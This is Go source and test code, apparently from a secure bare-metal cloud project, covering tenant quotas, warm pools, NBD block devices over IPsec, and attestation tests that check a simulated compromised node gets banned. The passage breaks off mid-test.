// SetBackpressureLimit replaces the global admission bound on the
// airlock queue depth (0 disables backpressure).
func (m *Manager) SetBackpressureLimit(n int) {
	m.mu.Lock()
	m.maxSchedQueue = n
	m.mu.Unlock()
}

// SetQuota creates or replaces a tenant's quota and applies its
// weight to the airlock scheduler. The tenant need not have an
// enclave yet — quotas commonly precede the first acquire. created
// reports whether this call added a new quota.
func (m *Manager) SetQuota(tenant string, q TenantQuota) (QuotaStatus, bool, error) {
	if tenant == "" {
		return QuotaStatus{}, false, fmt.Errorf("%w: quota needs a tenant name", ErrInvalid)
	}
	if err := q.Validate(); err != nil {
		return QuotaStatus{}, false, err
	}
	m.mu.Lock()
	prev, had := m.quotas[tenant]
	m.quotas[tenant] = q
	if err := m.appendRecord(store.KindQuotaSet, quotaRecord{Tenant: tenant, Quota: q}); err != nil {
		if had {
			m.quotas[tenant] = prev
		} else {
			delete(m.quotas, tenant)
		}
		m.mu.Unlock()
		return QuotaStatus{}, false, fmt.Errorf("core: persist quota: %w", err)
	}
	m.mu.Unlock()
	m.cloud.Scheduler().SetWeight(tenant, q.weight())
	st, err := m.Quota(tenant)
	return st, !had, err
}

// Quota returns a tenant's quota with live usage (ErrNotFound when no
// quota is set).
func (m *Manager) Quota(tenant string) (QuotaStatus, error) {
	m.mu.Lock()
	q, ok := m.quotas[tenant]
	if !ok {
		m.mu.Unlock()
		return QuotaStatus{}, fmt.Errorf("%w: tenant %q has no quota", ErrNotFound, tenant)
	}
	st := QuotaStatus{Tenant: tenant, Quota: q, InFlight: m.inflightLocked(tenant)}
	e := m.enclaves[tenant]
	m.mu.Unlock()
	if e != nil {
		st.Nodes = len(e.Nodes())
	}
	return st, nil
}

// ListQuotas returns every tenant quota with usage, sorted by tenant.
func (m *Manager) ListQuotas() []QuotaStatus {
	m.mu.Lock()
	names := make([]string, 0, len(m.quotas))
	for t := range m.quotas {
		names = append(names, t)
	}
	m.mu.Unlock()
	sort.Strings(names)
	out := make([]QuotaStatus, 0, len(names))
	for _, t := range names {
		if st, err := m.Quota(t); err == nil {
			out = append(out, st)
		}
	}
	return out
}

// DeleteQuota removes a tenant's quota, resetting its scheduler
// weight to the default.
func (m *Manager) DeleteQuota(tenant string) error {
	m.mu.Lock()
	prev, ok := m.quotas[tenant]
	if !ok {
		m.mu.Unlock()
		return fmt.Errorf("%w: tenant %q has no quota", ErrNotFound, tenant)
	}
	delete(m.quotas, tenant)
	if err := m.appendRecord(store.KindQuotaDeleted, tenantRecord{Tenant: tenant}); err != nil {
		m.quotas[tenant] = prev
		m.mu.Unlock()
		return fmt.Errorf("core: persist quota delete: %w", err)
	}
	m.mu.Unlock()
	m.cloud.Scheduler().SetWeight(tenant, 1)
	return nil
}

// SchedStats returns the cloud airlock scheduler's live state.
func (m *Manager) SchedStats() SchedStats {
	return m.cloud.Scheduler().Stats()
}

// ConfigurePool creates (or reconfigures) an enclave's warm pool and
// returns its stats. created reports whether this call attached a new
// pool rather than updating an existing one's policy.
func (m *Manager) ConfigurePool(enclave string, p PoolPolicy) (PoolStats, bool, error) {
	e, err := m.Enclave(enclave)
	if err != nil {
		return PoolStats{}, false, err
	}
	prev, had := e.PoolStats()
	if err := e.ConfigurePool(p); err != nil {
		return PoolStats{}, false, err
	}
	if err := m.appendRecord(store.KindPoolConfigured, poolRecord{Enclave: enclave, Policy: p}); err != nil {
		// Roll the live pool back to its committed policy (or detach a
		// pool that never committed) so state and log agree.
		if had {
			_ = e.ConfigurePool(prev.Policy)
		} else {
			e.ClosePool()
		}
		return PoolStats{}, false, fmt.Errorf("core: persist pool policy: %w", err)
	}
	st, _ := e.PoolStats()
	return st, !had, nil
}

// PoolStats returns an enclave's warm-pool stats (ErrNotFound when the
// enclave is unknown or has no pool).
func (m *Manager) PoolStats(enclave string) (PoolStats, error) {
	e, err := m.Enclave(enclave)
	if err != nil {
		return PoolStats{}, err
	}
	st, ok := e.PoolStats()
	if !ok {
		return PoolStats{}, fmt.Errorf("%w: enclave %q has no warm pool", ErrNotFound, enclave)
	}
	return st, nil
}

// ListPools returns the stats of every configured warm pool, sorted by
// enclave name.
func (m *Manager) ListPools() []PoolStats {
	var out []PoolStats
	for _, name := range m.ListEnclaves() {
		e, err := m.Enclave(name)
		if err != nil {
			continue
		}
		if st, ok := e.PoolStats(); ok {
			out = append(out, st)
		}
	}
	return out
}

// DrainPool empties an enclave's warm pool back into the provider's
// free pool and idles the refiller (Target drops to 0).
func (m *Manager) DrainPool(enclave string) (PoolStats, error) {
	e, err := m.Enclave(enclave)
	if err != nil {
		return PoolStats{}, err
	}
	st, err := e.DrainPool()
	if err != nil {
		return st, err
	}
	// A drain is a policy change (Target=0): commit it so a restart does
	// not refill a pool the tenant emptied.
	if perr := m.appendRecord(store.KindPoolConfigured, poolRecord{Enclave: enclave, Policy: st.Policy}); perr != nil {
		return st, fmt.Errorf("core: persist pool drain: %w", perr)
	}
	return st, nil
}

// DetachPool stops and removes an enclave's warm pool entirely; its
// standbys return to the free pool. It reports whether a pool existed.
func (m *Manager) DetachPool(enclave string) (bool, error) {
	e, err := m.Enclave(enclave)
	if err != nil {
		return false, err
	}
	_, had := e.PoolStats()
	e.ClosePool()
	if had {
		if err := m.appendRecord(store.KindPoolDetached, enclaveNameRecord{Enclave: enclave}); err != nil {
			return had, fmt.Errorf("core: pool detached but not committed: %w", err)
		}
	}
	return had, nil
}

// Health returns the cloud's degraded-mode snapshot: per-backend
// circuit-breaker states, degraded while any is open. This is the
// /v1/health body.
func (m *Manager) Health() HealthStatus { return m.cloud.Health() }

// ConfigureResilience sets a resilience policy. An empty enclave name
// configures the cloud-wide layer (installing it when absent);
// otherwise the named enclave gets a per-enclave override. Phase
// deadlines act per enclave; retry and breaker parameters apply where
// the shared backends are wrapped, cloud-wide. The policy is
// operational tuning, deliberately outside the durable log: a restart
// returns to the boltedd defaults.
func (m *Manager) ConfigureResilience(enclave string, pol ResiliencePolicy) (ResiliencePolicy, error) {
	if enclave == "" {
		if err := m.cloud.EnableResilience(pol); err != nil {
			return ResiliencePolicy{}, err
		}
		return m.cloud.Resilience(), nil
	}
	e, err := m.Enclave(enclave)
	if err != nil {
		return ResiliencePolicy{}, err
	}
	if err := e.SetResilience(pol); err != nil {
		return ResiliencePolicy{}, err
	}
	return e.Resilience(), nil
}

// ResiliencePolicyFor returns the effective policy: the enclave's
// override when set, the cloud's otherwise ("" asks for the cloud's).
func (m *Manager) ResiliencePolicyFor(enclave string) (ResiliencePolicy, error) {
	if enclave == "" {
		return m.cloud.Resilience(), nil
	}
	e, err := m.Enclave(enclave)
	if err != nil {
		return ResiliencePolicy{}, err
	}
	return e.Resilience(), nil
}

// ReclaimNode is the operator's scrub-and-return path for one of an
// enclave's rejected-pool nodes: the repaired node is powered off,
// freed back into the provider's free pool, and the recovery
// journaled.
func (m *Manager) ReclaimNode(ctx context.Context, enclave, node string) error {
	e, err := m.Enclave(enclave)
	if err != nil {
		return err
	}
	return e.ReclaimRejected(ctx, node)
}

// Tracer returns the manager's operation tracer (never nil).
func (m *Manager) Tracer() *obs.Tracer { return m.tracer }

// Metrics returns the cloud's metrics registry (nil when the cloud is
// uninstrumented).
func (m *Manager) Metrics() *obs.Registry { return m.cloud.Metrics() }

// OperationTrace returns the recorded spans of an operation's trace,
// creation order: the root acquire span first, then one span per
// node × phase. ErrNotFound covers both an unknown operation and one
// whose trace has been evicted (restored operations have no trace —
// spans are runtime observations, not durable state).
func (m *Manager) OperationTrace(id string) ([]obs.SpanData, error) {
	if _, err := m.Operation(id); err != nil {
		return nil, err
	}
	spans, ok := m.tracer.Spans(id)
	if !ok {
		return nil, fmt.Errorf("%w: operation %q has no recorded trace", ErrNotFound, id)
	}
	return spans, nil
}

// Operation returns a tracked operation by ID.
func (m *Manager) Operation(id string) (*Operation, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	op, ok := m.ops[id]
	if !ok {
		return nil, fmt.Errorf("%w: operation %q", ErrNotFound, id)
	}
	return op, nil
}

// ListOperations returns every tracked operation, oldest first (by
// creation sequence — lexical ID order breaks past op-9999).
func (m *Manager) ListOperations() []*Operation {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]*Operation, 0, len(m.ops))
	for _, op := range m.ops {
		out = append(out, op)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].seq < out[j].seq })
	return out
}
