// Integration tests driving the public facade end to end, as a
// downstream user of the library would.
package bolted_test

import (
	"bytes"
	"context"
	"testing"
	"time"

	"bolted"
	"bolted/internal/ima"
)

func seedCloud(t *testing.T, nodes int) *bolted.Cloud {
	t.Helper()
	cfg := bolted.DefaultConfig()
	cfg.Nodes = nodes
	cloud, err := bolted.NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("os", bolted.OSImageSpec{
		KernelID: "linux-4.17",
		Kernel:   []byte("vmlinuz"),
		Initrd:   []byte("initrd"),
		Cmdline:  "root=iscsi",
	}); err != nil {
		t.Fatal(err)
	}
	return cloud
}

func TestFacadeThreeTenantsEndToEnd(t *testing.T) {
	cloud := seedCloud(t, 3)
	for _, profile := range []bolted.Profile{bolted.ProfileAlice, bolted.ProfileBob, bolted.ProfileCharlie} {
		enclave, err := bolted.NewEnclave(cloud, profile.Name, profile)
		if err != nil {
			t.Fatalf("%s: %v", profile.Name, err)
		}
		if profile.ContinuousAttest {
			enclave.IMAWhitelist().AllowContent("/bin/app", []byte("app"))
		}
		node, err := enclave.AcquireNode(context.Background(), "os")
		if err != nil {
			t.Fatalf("%s: %v", profile.Name, err)
		}
		if node.Machine.KernelID() != "linux-4.17" {
			t.Fatalf("%s booted %q", profile.Name, node.Machine.KernelID())
		}
		// The node's remote volume works for every profile.
		data := bytes.Repeat([]byte{0x42}, 512)
		if err := node.Disk.WriteSectors(data, 1); err != nil {
			t.Fatalf("%s disk: %v", profile.Name, err)
		}
	}
	// All three coexist; the free pool is empty.
	if free, _ := cloud.HIL.FreeNodes(); len(free) != 0 {
		t.Fatalf("free pool = %v", free)
	}
}

func TestFacadeFederation(t *testing.T) {
	cloudA := seedCloud(t, 1)
	cloudB := seedCloud(t, 1)
	fed, err := bolted.NewFederatedEnclave(bolted.ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := fed.Join("a", cloudA, "proj"); err != nil {
		t.Fatal(err)
	}
	if _, err := fed.Join("b", cloudB, "proj"); err != nil {
		t.Fatal(err)
	}
	addrA, _, err := fed.AcquireNode(context.Background(), "a", "os")
	if err != nil {
		t.Fatal(err)
	}
	addrB, _, err := fed.AcquireNode(context.Background(), "b", "os")
	if err != nil {
		t.Fatal(err)
	}
	out, err := fed.Send(addrA, addrB, []byte("cross"))
	if err != nil || string(out) != "cross" {
		t.Fatalf("federated send: %v", err)
	}
}

func TestFacadeFirmwareVerification(t *testing.T) {
	cfg := bolted.DefaultConfig()
	cfg.Nodes = 1
	cloud, err := bolted.NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	md, err := cloud.HIL.NodeMetadata("node00")
	if err != nil {
		t.Fatal(err)
	}
	if err := bolted.VerifyPublishedFirmware(md, "heads-v1.0", cfg.HeadsSource); err != nil {
		t.Fatal(err)
	}
	if err := bolted.VerifyPublishedFirmware(md, "heads-v1.0", []byte("evil")); err == nil {
		t.Fatal("tampered source accepted")
	}
}

func TestFacadeSimulationAPI(t *testing.T) {
	cfg := bolted.DefaultProvisionConfig()
	cfg.Firmware = bolted.FirmwareLinuxBoot
	cfg.Security = bolted.SecAttested
	r := bolted.SimulateProvisioning(cfg)
	if r.Makespan < 2*time.Minute || r.Makespan > 4*time.Minute {
		t.Fatalf("attested LinuxBoot boot = %v, expected 2-4 min", r.Makespan)
	}
	if len(r.Phases) == 0 {
		t.Fatal("no phase breakdown")
	}
}

func TestFacadeWorkloadAPI(t *testing.T) {
	if len(bolted.Figure7Apps) != 6 {
		t.Fatalf("Figure7Apps = %d apps", len(bolted.Figure7Apps))
	}
	for _, app := range bolted.Figure7Apps {
		if app.Runtime(bolted.SecConfig{}) <= 0 {
			t.Fatalf("%s: nonpositive runtime", app.Name)
		}
	}
}

func TestFacadeFullCompromiseStory(t *testing.T) {
	// The complete secure-enclave narrative through the public API:
	// attested boot, encrypted runtime, detection, ban, release.
	cloud := seedCloud(t, 2)
	enclave, err := bolted.NewEnclave(cloud, "sec", bolted.ProfileCharlie)
	if err != nil {
		t.Fatal(err)
	}
	enclave.IMAWhitelist().AllowContent("/bin/trusted", []byte("trusted"))
	n1, err := enclave.AcquireNode(context.Background(), "os")
	if err != nil {
		t.Fatal(err)
	}
	n2, err := enclave.AcquireNode(context.Background(), "os")
	if err != nil {
		t.Fatal(err)
	}
	n1.IMA.Measure("/bin/trusted", []byte("trusted"), ima.HookExec, 0)
	if err := enclave.StartContinuousAttestation(n1.Name, 10*time.Millisecond); err != nil {
		t.Fatal(err)
	}
	if _, err := enclave.Send(n1.Name, n2.Name, []byte("ok")); err != nil {
		t.Fatal(err)
	}
	n1.IMA.Measure("/bin/malware", []byte("malware"), ima.HookExec, 0)
	deadline := time.Now().Add(2 * time.Second)
	for {
		if _, err := enclave.Send(n1.Name, n2.Name, []byte("probe")); err != nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("compromised node not banned within 2s")
		}
		time.Sleep(2 * time.Millisecond)
	}
	// Release the healthy node with state saved; it remains restartable.
	if err := enclave.ReleaseNode(n2.Name, "n2-state"); err != nil {
		t.Fatal(err)
	}
	if _, err := cloud.BMI.GetImage("n2-state"); err != nil {
		t.Fatal("saved state image missing")
	}
}
