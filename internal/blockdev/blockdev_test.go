package blockdev

import (
	"bytes"
	"errors"
	"testing"
	"testing/quick"
	"time"

	"bolted/internal/ipsec"
)

func fill(n int, seed byte) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = seed + byte(i*13)
	}
	return b
}

func TestRAMDiskRoundTrip(t *testing.T) {
	d, err := NewRAMDisk(1 << 20)
	if err != nil {
		t.Fatal(err)
	}
	if d.NumSectors() != (1<<20)/SectorSize {
		t.Fatalf("NumSectors = %d", d.NumSectors())
	}
	data := fill(4*SectorSize, 7)
	if err := d.WriteSectors(data, 10); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, len(data))
	if err := d.ReadSectors(got, 10); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Fatal("read back mismatch")
	}
}

func TestRAMDiskValidation(t *testing.T) {
	if _, err := NewRAMDisk(0); err == nil {
		t.Error("zero size accepted")
	}
	if _, err := NewRAMDisk(SectorSize + 1); err == nil {
		t.Error("unaligned size accepted")
	}
	d, _ := NewRAMDisk(4 * SectorSize)
	buf := make([]byte, SectorSize)
	if err := d.ReadSectors(buf, 4); !errors.Is(err, ErrOutOfRange) {
		t.Errorf("read past end: %v", err)
	}
	if err := d.WriteSectors(buf, -1); !errors.Is(err, ErrOutOfRange) {
		t.Errorf("negative sector: %v", err)
	}
	if err := d.ReadSectors(make([]byte, 100), 0); err == nil {
		t.Error("unaligned buffer accepted")
	}
	if err := d.ReadSectors(nil, 0); err == nil {
		t.Error("empty buffer accepted")
	}
}

func TestRAMDiskScrub(t *testing.T) {
	d, _ := NewRAMDisk(2 * SectorSize)
	d.WriteSectors(fill(SectorSize, 1), 0)
	d.Scrub()
	buf := make([]byte, SectorSize)
	d.ReadSectors(buf, 0)
	if !bytes.Equal(buf, make([]byte, SectorSize)) {
		t.Fatal("scrub left data behind")
	}
}

func TestOverlayCoW(t *testing.T) {
	base, _ := NewRAMDisk(8 * SectorSize)
	baseData := fill(8*SectorSize, 3)
	base.WriteSectors(baseData, 0)

	ov := NewOverlay(base)
	// Reads pass through.
	got := make([]byte, 8*SectorSize)
	ov.ReadSectors(got, 0)
	if !bytes.Equal(got, baseData) {
		t.Fatal("overlay read does not pass through")
	}
	// Writes stay in the overlay.
	newSec := fill(SectorSize, 99)
	ov.WriteSectors(newSec, 2)
	if ov.DirtySectors() != 1 {
		t.Fatalf("dirty = %d, want 1", ov.DirtySectors())
	}
	sec := make([]byte, SectorSize)
	ov.ReadSectors(sec, 2)
	if !bytes.Equal(sec, newSec) {
		t.Fatal("overlay lost write")
	}
	base.ReadSectors(sec, 2)
	if !bytes.Equal(sec, baseData[2*SectorSize:3*SectorSize]) {
		t.Fatal("overlay write leaked into base image")
	}
	// Discard reverts.
	ov.Discard()
	ov.ReadSectors(sec, 2)
	if !bytes.Equal(sec, baseData[2*SectorSize:3*SectorSize]) {
		t.Fatal("discard did not revert")
	}
}

func TestOverlayMixedRead(t *testing.T) {
	base, _ := NewRAMDisk(4 * SectorSize)
	base.WriteSectors(fill(4*SectorSize, 1), 0)
	ov := NewOverlay(base)
	mod := fill(SectorSize, 200)
	ov.WriteSectors(mod, 1)
	// One read spanning clean and dirty sectors.
	got := make([]byte, 3*SectorSize)
	if err := ov.ReadSectors(got, 0); err != nil {
		t.Fatal(err)
	}
	want := append([]byte(nil), fill(4*SectorSize, 1)[:SectorSize]...)
	want = append(want, mod...)
	want = append(want, fill(4*SectorSize, 1)[2*SectorSize:3*SectorSize]...)
	if !bytes.Equal(got, want) {
		t.Fatal("mixed clean/dirty read incorrect")
	}
}

func newNBD(t testing.TB, size int64, transport func(*Target) Transport, readAhead int64) (*Client, *RAMDisk) {
	t.Helper()
	disk, err := NewRAMDisk(size)
	if err != nil {
		t.Fatal(err)
	}
	tr := transport(NewTarget(disk))
	c, err := NewClient(tr, readAhead)
	if err != nil {
		t.Fatal(err)
	}
	return c, disk
}

func loopback(tg *Target) Transport { return Loopback{Target: tg} }

func TestNBDRoundTrip(t *testing.T) {
	c, _ := newNBD(t, 1<<20, loopback, 0)
	if c.NumSectors() != (1<<20)/SectorSize {
		t.Fatalf("negotiated size %d", c.NumSectors())
	}
	data := fill(16*SectorSize, 5)
	if err := c.WriteSectors(data, 100); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, len(data))
	if err := c.ReadSectors(got, 100); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Fatal("NBD round-trip mismatch")
	}
}

func TestNBDOutOfRangeSurfaced(t *testing.T) {
	c, _ := newNBD(t, 4*SectorSize, loopback, 0)
	buf := make([]byte, SectorSize)
	if err := c.ReadSectors(buf, 4); err == nil {
		t.Fatal("remote out-of-range read succeeded")
	}
}

func TestReadAheadReducesRoundTrips(t *testing.T) {
	const size = 8 << 20
	seq := func(ra int64) int64 {
		c, disk := newNBD(t, size, loopback, ra)
		disk.WriteSectors(fill(size, 9), 0)
		buf := make([]byte, 64<<10) // 64 KiB dd blocks
		for off := int64(0); off < size/SectorSize; off += int64(len(buf)) / SectorSize {
			if err := c.ReadSectors(buf, off); err != nil {
				t.Fatal(err)
			}
		}
		return c.NetReads()
	}
	small := seq(DefaultReadAhead)
	big := seq(TunedReadAhead)
	if big >= small {
		t.Fatalf("8 MiB read-ahead did %d round trips, 128 KiB did %d", big, small)
	}
	if small/big < 10 {
		t.Fatalf("expected >=10x round-trip reduction, got %dx", small/big)
	}
}

func TestWriteInvalidatesReadAhead(t *testing.T) {
	c, _ := newNBD(t, 1<<20, loopback, TunedReadAhead)
	buf := make([]byte, SectorSize)
	c.ReadSectors(buf, 0) // populates window
	newData := fill(SectorSize, 42)
	c.WriteSectors(newData, 0)
	got := make([]byte, SectorSize)
	c.ReadSectors(got, 0)
	if !bytes.Equal(got, newData) {
		t.Fatal("stale read-ahead served after overlapping write")
	}
}

func TestNBDOverIPsec(t *testing.T) {
	disk, _ := NewRAMDisk(1 << 20)
	inner := Loopback{Target: NewTarget(disk)}
	tr, err := NewIPsecTransport(inner, ipsec.SuiteHWAES, 9000)
	if err != nil {
		t.Fatal(err)
	}
	c, err := NewClient(tr, TunedReadAhead)
	if err != nil {
		t.Fatal(err)
	}
	data := fill(32*SectorSize, 77)
	if err := c.WriteSectors(data, 5); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, len(data))
	if err := c.ReadSectors(got, 5); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Fatal("IPsec NBD round-trip mismatch")
	}
	// The backing disk holds plaintext (encryption protects the wire,
	// not the target) but the wire path actually sealed/opened.
	raw := make([]byte, len(data))
	disk.ReadSectors(raw, 5)
	if !bytes.Equal(raw, data) {
		t.Fatal("target data corrupted by tunnel")
	}
}

func TestClientValidation(t *testing.T) {
	disk, _ := NewRAMDisk(1 << 20)
	tr := Loopback{Target: NewTarget(disk)}
	if _, err := NewClient(tr, 100); err == nil {
		t.Error("unaligned read-ahead accepted")
	}
	if _, err := NewClient(tr, -SectorSize); err == nil {
		t.Error("negative read-ahead accepted")
	}
}

func TestFaultTransportSurfacesErrors(t *testing.T) {
	disk, _ := NewRAMDisk(1 << 20)
	disk.WriteSectors(fill(4*SectorSize, 3), 0)
	ft := &FaultTransport{Inner: Loopback{Target: NewTarget(disk)}, FailEvery: 2}
	c, err := NewClient(ft, 0) // size negotiation is request 1
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, SectorSize)
	// Request 2 fails, request 3 succeeds: errors surface, state is
	// not poisoned, and retries work.
	if err := c.ReadSectors(buf, 0); err == nil {
		t.Fatal("injected failure not surfaced")
	}
	if err := c.ReadSectors(buf, 0); err != nil {
		t.Fatalf("retry after failure: %v", err)
	}
	if !bytes.Equal(buf, fill(4*SectorSize, 3)[:SectorSize]) {
		t.Fatal("retry returned wrong data")
	}
	if err := c.WriteSectors(buf, 8); err == nil {
		t.Fatal("injected write failure not surfaced")
	}
	if err := c.WriteSectors(buf, 8); err != nil {
		t.Fatalf("write retry: %v", err)
	}
}

func TestFaultTransportNeverCachesFailure(t *testing.T) {
	// A failed read-ahead fill must not leave garbage in the window.
	disk, _ := NewRAMDisk(1 << 20)
	want := fill(SectorSize, 9)
	disk.WriteSectors(want, 100)
	ft := &FaultTransport{Inner: Loopback{Target: NewTarget(disk)}, FailEvery: 2}
	c, err := NewClient(ft, TunedReadAhead)
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, SectorSize)
	for i := 0; i < 10; i++ {
		if err := c.ReadSectors(buf, 100); err != nil {
			continue
		}
		if !bytes.Equal(buf, want) {
			t.Fatalf("iteration %d: cached garbage after failure", i)
		}
	}
}

// Property: any sequence of aligned writes then reads over NBD matches a
// plain RAM disk (the network device is transparent).
func TestQuickNBDEquivalence(t *testing.T) {
	const sectors = 64
	c, _ := newNBD(t, sectors*SectorSize, loopback, TunedReadAhead)
	ref, _ := NewRAMDisk(sectors * SectorSize)
	f := func(ops []struct {
		Sector uint8
		Data   [SectorSize]byte
	}) bool {
		for _, op := range ops {
			s := int64(op.Sector) % sectors
			if err := c.WriteSectors(op.Data[:], s); err != nil {
				return false
			}
			if err := ref.WriteSectors(op.Data[:], s); err != nil {
				return false
			}
		}
		a := make([]byte, sectors*SectorSize)
		b := make([]byte, sectors*SectorSize)
		if err := c.ReadSectors(a, 0); err != nil {
			return false
		}
		if err := ref.ReadSectors(b, 0); err != nil {
			return false
		}
		return bytes.Equal(a, b)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Error(err)
	}
}

// modelClock pairs a fake clock with a transport whose round trips
// "take" a fixed latency plus size-proportional transfer time. Adaptive
// read-ahead decisions become fully deterministic: no sleeps, no timer
// resolution, no scheduler noise.
type modelClock struct {
	inner   Transport
	t       time.Time
	latency time.Duration
	perKiB  time.Duration
}

func (m *modelClock) now() time.Time { return m.t }

func (m *modelClock) RoundTrip(req []byte) ([]byte, error) {
	resp, err := m.inner.RoundTrip(req)
	bytes := len(req) + len(resp)
	m.t = m.t.Add(m.latency + time.Duration(bytes/1024)*m.perKiB)
	return resp, err
}

func newAdaptiveNBD(t *testing.T, size int64, latency, perKiB time.Duration) *Client {
	t.Helper()
	disk, err := NewRAMDisk(size)
	if err != nil {
		t.Fatal(err)
	}
	mc := &modelClock{inner: loopback(NewTarget(disk)), latency: latency, perKiB: perKiB}
	c, err := NewClient(mc, AdaptiveReadAhead)
	if err != nil {
		t.Fatal(err)
	}
	c.now = mc.now
	return c
}

func sequentialRead(t *testing.T, c *Client, totalBytes int64) {
	t.Helper()
	const chunk = DefaultReadAhead
	buf := make([]byte, chunk)
	for off := int64(0); off+chunk <= totalBytes; off += chunk {
		if err := c.ReadSectors(buf, off/SectorSize); err != nil {
			t.Fatal(err)
		}
	}
}

// TestAdaptiveReadAheadConvergesUp models a high-latency storage link
// (2 ms per round trip, ~1 GiB/s transfer): the fixed cost dominates
// small windows, so every doubling improves throughput and the client
// must converge to TunedReadAhead — the §7.2 tuning, discovered
// automatically.
func TestAdaptiveReadAheadConvergesUp(t *testing.T) {
	c := newAdaptiveNBD(t, 64<<20, 2*time.Millisecond, time.Microsecond)
	if got := c.ReadAheadBytes(); got != DefaultReadAhead {
		t.Fatalf("initial window %d, want %d", got, DefaultReadAhead)
	}
	sequentialRead(t, c, 48<<20)
	if got := c.ReadAheadBytes(); got != TunedReadAhead {
		t.Fatalf("window converged to %d, want %d", got, TunedReadAhead)
	}
}

// TestAdaptiveReadAheadStaysSmallOnFastLink models a near-zero-latency
// link (1 µs per round trip): throughput is transfer-bound, doubling
// buys <10%, so the window must settle back at DefaultReadAhead instead
// of wasting 8 MiB per fill.
func TestAdaptiveReadAheadStaysSmallOnFastLink(t *testing.T) {
	c := newAdaptiveNBD(t, 64<<20, time.Microsecond, time.Microsecond)
	sequentialRead(t, c, 48<<20)
	if got := c.ReadAheadBytes(); got != DefaultReadAhead {
		t.Fatalf("window grew to %d on a fast link, want %d", got, DefaultReadAhead)
	}
}

// TestAdaptiveFixedWindowUnaffected pins that non-adaptive clients never
// retune, whatever the link looks like.
func TestAdaptiveFixedWindowUnaffected(t *testing.T) {
	disk, _ := NewRAMDisk(8 << 20)
	mc := &modelClock{inner: loopback(NewTarget(disk)), latency: 5 * time.Millisecond, perKiB: time.Microsecond}
	c, err := NewClient(mc, DefaultReadAhead)
	if err != nil {
		t.Fatal(err)
	}
	c.now = mc.now
	sequentialRead(t, c, 8<<20)
	if got := c.ReadAheadBytes(); got != DefaultReadAhead {
		t.Fatalf("fixed window changed to %d", got)
	}
}

// TestVectorEquivalence checks that vectored I/O (native on RAMDisk and
// Client, fallback elsewhere) moves exactly the same bytes as the
// contiguous path, across uneven buffer splits.
func TestVectorEquivalence(t *testing.T) {
	split := func(b []byte, cuts ...int) [][]byte {
		var out [][]byte
		prev := 0
		for _, c := range cuts {
			out = append(out, b[prev:c])
			prev = c
		}
		return append(out, b[prev:])
	}
	data := fill(8*SectorSize, 3)
	devices := map[string]Device{}
	rd, _ := NewRAMDisk(1 << 20)
	devices["ramdisk"] = rd
	nbd, _ := newNBD(t, 1<<20, loopback, DefaultReadAhead)
	devices["nbd-client"] = nbd
	base, _ := NewRAMDisk(1 << 20)
	devices["overlay-fallback"] = NewOverlay(base)

	for name, dev := range devices {
		// Gather-write buffers with non-sector-aligned internal cuts.
		w := split(data, 100, 1024, 1024+SectorSize)
		if err := WriteVector(dev, w, 5); err != nil {
			t.Fatalf("%s: WriteVector: %v", name, err)
		}
		flat := make([]byte, len(data))
		if err := dev.ReadSectors(flat, 5); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(flat, data) {
			t.Fatalf("%s: gather-write wrote wrong bytes", name)
		}
		// Scatter-read into uneven buffers.
		got := make([]byte, len(data))
		r := split(got, 7, 2048, 2048+3*SectorSize)
		if err := ReadVector(dev, r, 5); err != nil {
			t.Fatalf("%s: ReadVector: %v", name, err)
		}
		if !bytes.Equal(got, data) {
			t.Fatalf("%s: scatter-read returned wrong bytes", name)
		}
		// Misaligned totals are rejected.
		if err := WriteVector(dev, [][]byte{data[:100]}, 0); err == nil {
			t.Fatalf("%s: unaligned vector accepted", name)
		}
	}
}

// TestClientGatherWriteSingleRoundTrip pins the wire win: a three-part
// gather write must cost exactly one round trip, same as a contiguous
// write of equal size.
func TestClientGatherWriteSingleRoundTrip(t *testing.T) {
	c, disk := newNBD(t, 1<<20, loopback, 0)
	parts := [][]byte{fill(300, 1), fill(3*SectorSize-400, 2), fill(100, 3)}
	before := c.NetWrites()
	if err := c.WriteVector(parts, 9); err != nil {
		t.Fatal(err)
	}
	if got := c.NetWrites() - before; got != 1 {
		t.Fatalf("gather write took %d round trips, want 1", got)
	}
	want := bytes.Join(parts, nil)
	got := make([]byte, len(want))
	disk.ReadSectors(got, 9)
	if !bytes.Equal(got, want) {
		t.Fatal("gathered bytes landed wrong")
	}
}
