package sim

import (
	"testing"
	"time"
)

func TestCallbackOrdering(t *testing.T) {
	s := New(1)
	var got []int
	s.At(3*time.Second, func() { got = append(got, 3) })
	s.At(1*time.Second, func() { got = append(got, 1) })
	s.At(2*time.Second, func() { got = append(got, 2) })
	end := s.Run()
	if end != 3*time.Second {
		t.Fatalf("end time = %v, want 3s", end)
	}
	want := []int{1, 2, 3}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("order = %v, want %v", got, want)
		}
	}
}

func TestSameTimeFIFO(t *testing.T) {
	s := New(1)
	var got []int
	for i := 0; i < 10; i++ {
		i := i
		s.At(time.Second, func() { got = append(got, i) })
	}
	s.Run()
	for i := 0; i < 10; i++ {
		if got[i] != i {
			t.Fatalf("same-time events fired out of order: %v", got)
		}
	}
}

func TestAtPastPanics(t *testing.T) {
	s := New(1)
	s.At(5*time.Second, func() {
		defer func() {
			if recover() == nil {
				t.Error("scheduling in the past did not panic")
			}
		}()
		s.At(time.Second, func() {})
	})
	s.Run()
}

func TestProcSleep(t *testing.T) {
	s := New(1)
	var wake time.Duration
	s.Go("sleeper", func(p *Proc) {
		p.Sleep(90 * time.Second)
		wake = p.Now()
	})
	s.Run()
	if wake != 90*time.Second {
